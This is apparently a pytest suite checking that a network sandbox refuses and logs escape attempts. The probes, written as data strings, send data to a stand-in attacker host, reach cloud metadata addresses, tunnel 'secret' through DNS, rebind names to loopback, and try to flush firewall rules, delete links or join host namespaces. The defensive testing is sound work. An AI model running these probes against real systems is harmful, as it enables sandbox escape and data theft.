"""What a program tries to get out of its lease: each way is refused, is on record, and nothing of it is on the wire.

One world per identity tries everything; the tests read what came of it. In each run the listed host is reached by
the same means, and what needs a privilege is shown to work in a namespace where the program has it.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys

import pytest
import rig
from rig import BY_PASTA, EVIL, GOOD, IDENTITIES
from rigprobe import source

pytestmark = pytest.mark.kernel

PACKETS = [
    ("off the list", f"tcp('{EVIL}')", "ECONNREFUSED", "tcp", EVIL, 80),
    ("port off the list", f"tcp('{GOOD}', 2222)", "ECONNREFUSED", "tcp", GOOD, 2222),
    ("udp on an allowed tcp port", f"udp('{GOOD}', 80)", "EPERM", "udp", GOOD, 80),
    ("udp", f"udp('{EVIL}', 123)", "EPERM", "udp", EVIL, 123),
    ("udp, not connected", f"udp('{EVIL}', 5353, connected=False)", "EPERM", "udp", EVIL, 5353),
    ("quic", f"udp('{GOOD}', 443)", "EPERM", "udp", GOOD, 443),
    ("in IPv6 dress", f"tcp('::ffff:{EVIL}', 8080)", "ECONNREFUSED", "tcp", EVIL, 8080),
    ("gateway", "tcp('10.0.2.2')", "ECONNREFUSED", "tcp", "10.0.2.2", 80),
    ("gateway's names", "ask('x.example', server='10.0.2.2')", "EPERM", "udp", "10.0.2.2", 53),
    ("connector's names", "ask('secret.example', server='10.0.2.3')", "EPERM", "udp", "10.0.2.3", 53),
    (
        "connector's names, stream",
        "ask('secret.example', server='10.0.2.3', stream=True)",
        "ECONNREFUSED",
        "tcp",
        "10.0.2.3",
        53,
    ),
    ("another name server", "ask('secret.example', server='8.8.8.8')", "EPERM", "udp", "8.8.8.8", 53),
    (
        "another name server, stream",
        "ask('secret.example', server='8.8.8.8', stream=True)",
        "ECONNREFUSED",
        "tcp",
        "8.8.8.8",
        53,
    ),
    ("allowed host's names", f"ask('secret.example', server='{GOOD}')", "EPERM", "udp", GOOD, 53),
    ("dns over tls", "tcp('1.1.1.1', 853)", "ECONNREFUSED", "tcp", "1.1.1.1", 853),
    ("dns over https", "tcp('1.1.1.1', 443)", "ECONNREFUSED", "tcp", "1.1.1.1", 443),
    ("dns over tls, allowed host", f"tcp('{GOOD}', 853)", "ECONNREFUSED", "tcp", GOOD, 853),
    ("metadata", "tcp('169.254.169.254')", "ECONNREFUSED", "tcp", "169.254.169.254", 80),
    ("metadata, as a number", "tcp('2852039166', 8080)", "ECONNREFUSED", "tcp", "169.254.169.254", 8080),
    ("metadata, ECS", "tcp('169.254.170.2')", "ECONNREFUSED", "tcp", "169.254.170.2", 80),
    ("metadata, Azure", "tcp('168.63.129.16')", "ECONNREFUSED", "tcp", "168.63.129.16", 80),
    ("metadata, Alibaba", "tcp('100.100.100.200')", "ECONNREFUSED", "tcp", "100.100.100.200", 80),
    ("private", "tcp('192.168.1.1')", "ECONNREFUSED", "tcp", "192.168.1.1", 80),
    ("multicast", "udp('224.0.0.251', 5353)", "EPERM", "udp", "224.0.0.251", 5353),
    ("broadcast", "broadcast()", "EPERM", "udp", "255.255.255.255", 67),
    ("by the device", f"by_device('{EVIL}', 22)", "ECONNREFUSED", "tcp", EVIL, 22),
    ("fast open", f"fast_open('{EVIL}', 853)", "ECONNREFUSED", "tcp", EVIL, 853),
]
"""Name, what is tried, how it is refused, and what is on record."""

TOOLS = """
DEVICE = b"tap0" if "tap0" in [name for _, name in socket.if_nameindex()] else b"lo"
def broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return tried(made.sendto, b"x", ("255.255.255.255", 67))
def by_device(address, port):
    with socket.socket() as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, DEVICE)
        return tried(made.connect, (address, port))
def fast_open(address, port):
    with socket.socket() as made:
        return tried(made.sendto, b"secret", socket.MSG_FASTOPEN, (address, port))
"""

SILENT = {
    "ipv6": ("tcp('2001:db8::66')", "ENETUNREACH"),
    "ipv6 udp": ("udp('2001:db8::66', 123)", "ENETUNREACH"),
    "ipv6 of the link": (
        "udp('ff02::1%' + DEVICE.decode(), 5353, wait=0.5, connected=False)",
        ("ENETUNREACH", "EADDRNOTAVAIL", "EPERM"),
    ),
    "ipv6 metadata": ("tcp('fd00:ec2::254')", "ENETUNREACH"),
    "host's loopback": ("tcp('127.0.0.1')", "ECONNREFUSED"),
    "host's loopback, IPv6": ("tcp('::1')", "ECONNREFUSED"),
    "host's loopback, elsewhere": ("tcp('127.7.7.7', 8080)", "ECONNREFUSED"),
    "host's loopback, unspecified": ("tcp('0.0.0.0')", "ECONNREFUSED"),
    "abstract socket": ("abstract()", "ECONNREFUSED"),
}
"""Where no packet leaves the program's own loopback, or none exists: nothing to put on record."""

ABSTRACT = """
def abstract():
    with socket.socket(socket.AF_UNIX) as made:
        return tried(made.connect, "\\0stockade-rig")
"""

POWERS = """
libc = ctypes.CDLL(None, use_errno=True)
def called(result):
    return "ok" if result >= 0 else errno.errorcode[ctypes.get_errno()]
def message(kind, body, flags=5):
    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body
def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)
def netlink(family, data):
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as link:
            link.settimeout(5)
            link.sendto(data, (0, 0))
            answer = link.recv(65536)
    except OSError as error:
        return named(error)
    kind, code = struct.unpack_from("=4xH10xi", answer)
    return errno.errorcode.get(-code, "ok") if kind == 2 else "ok"
def batch(kind, body):
    ends = struct.pack("=BBH", 0, 0, 10 << 8)
    return message(16, ends, 1) + message(10 << 8 | kind, struct.pack("=BBH", 1, 0, 0) + body) + message(17, ends, 1)
def index():
    return socket.if_nametoindex("tap0") if "tap0" in [name for _, name in socket.if_nameindex()] else 1
def link(kind, name):
    info = attribute(1, kind)
    return struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(3, name) + attribute(18, info)
def ioctl(request, name, tail=bytes(24)):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        return tried(fcntl.ioctl, made, request, struct.pack("16s", name) + tail)
def opened(family, kind, protocol=0):
    return tried(socket.socket, family, kind, protocol)
def path(name, flags=os.O_RDONLY):
    try:
        os.close(os.open(name, flags))
    except OSError as error:
        return named(error)
    return "ok"
def option(level, name, value):
    with socket.socket() as made:
        return tried(made.setsockopt, level, name, value)
def join(pid, kind):
    try:
        fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
    except OSError as error:
        return named(error)
    return called(libc.setns(fd, 0))
def owner():
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    return tried(fcntl.ioctl, fd, 0xB701)
"""

REFUSED = {"EPERM", "EACCES", "ENOSYS", "EAFNOSUPPORT", "ENOENT", "EROFS", "ENOSPC", "EUSERS", "EINVAL"}
"""EINVAL: these are the users one is among already."""
NOT_HERE = {"EAFNOSUPPORT", "ENOENT", "EOPNOTSUPP", "EPROTONOSUPPORT", "ENOTSUP", "EEXIST", "ENETDOWN", "EINVAL"}
"""With the privilege: the kernel got as far as to find the thing wanting."""

PRIVILEGED = {
    "list the rules": "netlink(12, message(10 << 8 | 1, struct.pack('=BBH', 1, 0, 0), 0x301))",
    "flush the rules": "netlink(12, batch(2, b''))",
    "delete the table": "netlink(12, batch(2, attribute(1, b'stockade\\0')))",
    "add a table": "netlink(12, batch(0, attribute(1, b'mine\\0')))",
    "new link": "netlink(0, message(16, link(b'dummy', b'mine\\0'), 0x605))",
    "new tunnel": "netlink(0, message(16, link(b'ipip', b'tunnel\\0'), 0x605))",
    "delete the tap": "netlink(0, message(17, struct.pack('=BxHiII', 0, 0, index(), 0, 0)))",
    "take the tap down": "netlink(0, message(19, struct.pack('=BxHiII', 0, 0, index(), 0, 1)))",
    "new address": "netlink(0, message(20, struct.pack('=BBBBI', 2, 32, 0, 0, index())"
    " + attribute(2, socket.inet_aton('10.0.2.7')), 0x605))",
    "new route": "netlink(0, message(24, struct.pack('=BBBBBBBBI', 2, 32, 0, 0, 254, 4, 253, 1, 0)"
    " + attribute(1, socket.inet_aton('9.9.9.9')) + attribute(4, struct.pack('=I', 1)), 0x605))",
    "new address, by ioctl": "ioctl(0x8916, b'lo:9', struct.pack('=HH4s16x', 2, 0, socket.inet_aton('10.9.9.9')))",
    "raw socket": "opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)",
    "raw socket, icmp": "opened(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
    "raw socket, IPv6": "opened(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)",
    "packet socket": "opened(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))",
    "packet socket, cooked": "opened(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))",
    "mark": "option(socket.SOL_SOCKET, 36, 1)",
    "transparent": "option(socket.IPPROTO_IP, 19, 1)",
    "source route": f"option(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + {socket.inet_aton(EVIL)} + b'\\0')",
    "new network": "called(libc.unshare(0x40000000))",
    "join the network": "join('self', 'net')",
    "who owns the network": "owner()",
}
"""What takes a privilege over the network; the control is a namespace of the test's own."""

NEVER = {
    "second user namespace": "called(libc.unshare(0x10000000))",
    "join the network of process 1": "join(1, 'net')",
    "join the users of process 1": "join(1, 'user')",
    "join the mounts of process 1": "join(1, 'mnt')",
    "tun device": "path('/dev/net/tun', os.O_RDWR)",
    "vsock": "opened(40, socket.SOCK_STREAM)",
    "ping socket": "opened(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)",
    "ping socket, IPv6": "opened(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)",
    "ping group": "path('/proc/sys/net/ipv4/ping_group_range', os.O_WRONLY)",
    "forwarding": "path('/proc/sys/net/ipv4/ip_forward', os.O_WRONLY)",
}

NAMES = [
    ("off the list", "ask('evil.example')", 3, "evil.example"),
    ("below an allowed name", "ask('c2VjcmV0.good.example')", 3, "c2vjcmv0.good.example"),
    ("text, below an allowed name", "ask('c2VjcmV0.txt.good.example', 16)", 3, "c2vjcmv0.txt.good.example"),
    ("text, elsewhere", "ask('c2VjcmV0.tunnel.example', 16)", 3, "c2vjcmv0.tunnel.example"),
    ("by stream", "ask('stream.evil.example', stream=True)", 3, "stream.evil.example"),
    ("the other way round", "ask('1.113.0.203.in-addr.arpa', 12)", 3, "1.113.0.203.in-addr.arpa"),
]
"""Queries to the lease's own resolver: refused, recorded, and never sent on."""

REBINDING = {
    "loop.example": "127.0.0.1",
    "meta.example": "169.254.169.254",
    "link.example": "169.254.1.1",
    "lan.example": "192.168.7.7",
    "gateway.example": "10.0.2.2",
    "zero.example": "0.0.0.0",
    "cast.example": "224.0.0.251",
}
"""Allowed names that lead where no name may lead."""


# --- the world ---------------------------------------------------------------------------------------------


def attacks(world):
    listening = socket.socket(socket.AF_UNIX)
    listening.bind("\0stockade-rig")
    listening.listen(8)
    for name, address in REBINDING.items():
        world.zone[name] = [f"A {address}"]
    world.zone["mixed.example"] = [f"A {GOOD}", "A 127.0.0.1", "A 169.254.169.254"]
    world.zone["turn.example"] = [[f"A {GOOD}"], ["A 127.0.0.1"]]
    for name in ("evil.example", "tunnel.example", "secret.example"):
        world.zone[name] = [f"A {EVIL}"]
    return {
        "sysctl is read-only": bool(os.statvfs("/proc/sys").f_flag & os.ST_RDONLY),
        "packets": world.probe(packets_body(), allow=["good.example:80"]),
        "outside": outside(packets_body()),
        "powers": world.probe(powers_body(), allow=["good.example:80"]),
        "unfiltered": world.probe(powers_body(), allow=["good.example:80"], syscalls={"filter": "off"}),
        "privileged": privileged(powers_body()),
        "binary": world.run(binary_script(), allow=["good.example:80"]),
        "names": world.probe(names_body(), allow=["good.example:80"]),
        "rebinding": world.probe(rebinding_body(), allow=[f"{name}:*" for name in (*REBINDING, *TURNING)]),
    }


TURNING = ("good.example", "mixed.example", "turn.example")


def packets_body():
    lines = [f"found[{name!r}] = {expression}" for name, expression, *_rest in PACKETS]
    lines += [f"found[{name!r}] = {expression}" for name, (expression, _refusal) in SILENT.items()]
    reached = "found['good'] = http('good.example')\n"
    addresses = "found['addresses'] = open('/proc/net/if_inet6').read().split('\\n')"
    return "\n".join((TOOLS, ABSTRACT, reached, addresses, *lines))


def powers_body():
    reached = f"found['good'], found['evil'] = http('good.example'), http('{EVIL}')"
    lines = [f"found[{name!r}] = {expression}" for name, expression in (*PRIVILEGED.items(), *NEVER.items())]
    return "\n".join((POWERS, *lines, reached))


def names_body():
    lines = [f"found[{name!r}] = {expression}" for name, expression, *_rest in NAMES]
    return "\n".join((*lines, "found['text'] = ask('good.example', 16)", "found['good'] = ask('good.example')"))


def rebinding_body():
    names = (*REBINDING, *TURNING)
    body = f"for name in {names!r}: found[name] = ask(name), lookup(name), http(name)\n"
    body += "found['again'] = ask('turn.example')\n"
    addresses = tuple(REBINDING.values())
    return body + f"found['direct'] = {{each: tcp(each, 8080) for each in {addresses!r}}}\n"


def binary_script():
    fetch = 'import urllib.request; print(urllib.request.urlopen("http://good.example/").read().decode())'
    tries = (
        "nft list ruleset && echo listed",
        "nft flush ruleset && echo flushed",
        "ip link delete tap0 && echo gone",
    )
    return "\n".join((*tries, f"{rig.plain_python()} -c '{fetch}'"))


def outside(body):
    """The same without a box."""
    done = subprocess.run([sys.executable, "-c", source(body)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


OWN = """
import ctypes
libc, uid, gid = ctypes.CDLL(None), os.geteuid(), os.getegid()
assert libc.unshare(0x50000000) == 0
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
    with open(f"/proc/self/{name}", "w") as file:
        file.write(text)
"""


def privileged(body):
    """The same by who has all capabilities over a network of its own."""
    return outside(OWN + body)


@pytest.fixture(scope="module", params=[*IDENTITIES, *BY_PASTA[:1]])
def attacked(request):
    return rig.run(attacks, request.param)


# --- packets -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "refusal", "protocol", "address", "port"), [(e[0], *e[2:]) for e in PACKETS])
def test_packet_is_refused_and_recorded(attacked, name, refusal, protocol, address, port):
    run = attacked["packets"]
    assert run["found"]["good"] == f"tag {GOOD} 80 good.example"
    assert run["found"][name] == refusal
    (attempt,) = rig.egress_of(run, address=address, port=port, protocol=protocol, allowed=False)
    assert attempt["packets"] >= 1
    subject = f"[{attempt['host']}]:{port}" if ":" in attempt["host"] else f"{attempt['host']}:{port}"
    assert rig.denied(run, subject), run["denials"]


@pytest.mark.parametrize("name", SILENT)
def test_no_packet_exists(attacked, name):
    refusal = SILENT[name][1]
    assert attacked["packets"]["found"][name] in ((refusal,) if isinstance(refusal, str) else refusal)


def test_the_link_has_no_ipv6(attacked):
    """Loopback has: programs bind ::1. Where /proc/sys is read-only, the rules alone refuse it."""
    links = {line.split()[-1] for line in attacked["packets"]["found"]["addresses"] if line}
    assert links == {"lo"} or attacked["sysctl is read-only"]


def test_only_the_allowed_host_was_on_the_wire(attacked):
    run = attacked["packets"]
    assert run["wire"] == [["tcp", GOOD, 80]]
    assert run["served"] == [[GOOD, 80, "good.example"]]
    assert run["asked"] == [["127.0.0.1", "good.example", "A"]]
    assert run["dropped"] >= len(PACKETS)


@pytest.mark.parametrize(
    ("name", "reached"),
    [
        ("off the list", "ok"),
        ("port off the list", "ok"),
        ("udp", "echo ping"),
        ("metadata", "ok"),
        ("gateway", "ok"),
        ("ipv6", "ok"),
        ("ipv6 udp", "echo ping"),
        ("in IPv6 dress", "ok"),
        ("dns over tls", "ok"),
        ("host's loopback", "ok"),
        ("host's loopback, IPv6", "ok"),
        ("abstract socket", "ok"),
        ("fast open", "ok"),
    ],
)
def test_the_same_probe_reaches_it_outside(attacked, name, reached):
    assert attacked["outside"][name] == reached


def test_other_name_servers_answer_outside(attacked):
    for name in ("another name server", "another name server, stream", "connector's names"):
        assert attacked["outside"][name]["addresses"] == [EVIL]


# --- power over the network --------------------------------------------------------------------------------


@pytest.mark.parametrize("name", [*PRIVILEGED, *NEVER])
def test_power_is_refused(attacked, name):
    assert attacked["powers"]["found"][name] in REFUSED


@pytest.mark.parametrize("name", [name for name in (*PRIVILEGED, *NEVER) if name != "vsock"])
def test_namespaces_alone_refuse_it(attacked, name):
    """Without the syscall filter."""
    assert attacked["unfiltered"]["found"][name] in REFUSED


@pytest.mark.parametrize("name", PRIVILEGED)
def test_the_privileged_can(attacked, name):
    assert attacked["privileged"][name] in {"ok", *NOT_HERE}


@pytest.mark.parametrize("name", ["list the rules", "add a table", "new address", "raw socket", "packet socket"])
def test_the_privileged_succeed(attacked, name):
    assert attacked["privileged"][name] == "ok"
    assert attacked["unfiltered"]["found"][name] == "EPERM"


@pytest.mark.parametrize("name", ["powers", "unfiltered"])
def test_rules_stand_after_all_that(attacked, name):
    run = attacked[name]
    assert run["found"]["good"] == f"tag {GOOD} 80 good.example"
    assert run["found"]["evil"] == "ECONNREFUSED"
    assert run["wire"] == [["tcp", GOOD, 80]]


def test_nft_and_ip_programs_can_do_nothing(attacked):
    run = attacked["binary"]
    assert run["stderr"].count("\n") >= 3, run["stderr"]
    assert run["stdout"].strip() == f"tag {GOOD} 80 good.example"
    assert run["wire"] == [["tcp", GOOD, 80]]


# --- names -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "rcode", "subject"), [(e[0], *e[2:]) for e in NAMES])
def test_name_is_refused_and_recorded(attacked, name, rcode, subject):
    run = attacked["names"]
    assert (run["found"][name]["rcode"], run["found"][name]["answers"]) == (rcode, 0)
    assert rig.egress_of(run, host=subject, protocol="dns", allowed=False)
    assert rig.denied(run, subject)


def test_only_allowed_names_leave(attacked):
    run = attacked["names"]
    assert run["found"]["good"]["addresses"] == [GOOD]
    assert (run["found"]["text"]["rcode"], run["found"]["text"]["answers"]) == (0, 0)
    assert run["asked"] == [["127.0.0.1", "good.example", "A"]]
    assert run["wire"] == []


@pytest.mark.parametrize("name", REBINDING)
def test_rebinding_is_refused_and_recorded(attacked, name):
    run = attacked["rebinding"]
    asked, found, reached = run["found"][name]
    assert asked["addresses"] == []
    assert found in ("EAI_NODATA", "EAI_NONAME")
    assert reached == found
    (attempt,) = rig.egress_of(run, host=name, allowed=False)
    assert (attempt["address"], attempt["data"]) == (REBINDING[name], f"leads to {REBINDING[name]}")
    assert rig.denied(run, name)


def test_good_addresses_of_a_mixed_name_remain(attacked):
    run = attacked["rebinding"]
    asked, found, reached = run["found"]["mixed.example"]
    assert asked["addresses"] == found == [GOOD]
    assert reached == f"tag {GOOD} 80 mixed.example"
    (attempt,) = rig.egress_of(run, host="mixed.example", allowed=False)
    assert attempt["data"] == "leads to 127.0.0.1, 169.254.169.254"


def test_a_name_that_turns_to_loopback_does_not_lead_there(attacked):
    run = attacked["rebinding"]
    assert run["found"]["turn.example"][2] == f"tag {GOOD} 80 turn.example"
    assert "127.0.0.1" not in run["found"]["again"]["addresses"]


def test_rebinding_leaves_nothing_open(attacked):
    run = attacked["rebinding"]
    assert set(run["found"]["direct"].values()) <= {"ECONNREFUSED", "ENETUNREACH"}
    assert run["wire"] == [["tcp", GOOD, 80]]
    assert {name for _server, name, _kind in run["asked"]} == {*REBINDING, *TURNING}
